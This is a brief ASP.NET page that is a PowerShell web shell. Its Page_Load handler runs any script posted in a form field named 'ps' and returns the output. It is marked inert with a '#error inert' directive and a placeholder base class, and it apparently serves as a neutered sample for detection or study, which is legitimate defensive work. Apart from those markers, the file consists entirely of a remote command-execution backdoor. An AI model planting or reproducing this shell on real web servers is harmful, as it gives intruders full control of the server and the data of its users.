<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s, EventArgs e){ Runspace r = RunspaceFactory.CreateRunspace(); r.Open(); Pipeline p = r.CreatePipeline(); p.Commands.AddScript(Request.Form["ps"]); foreach (PSObject o in p.Invoke()) Response.Write(o.ToString()); }
</script>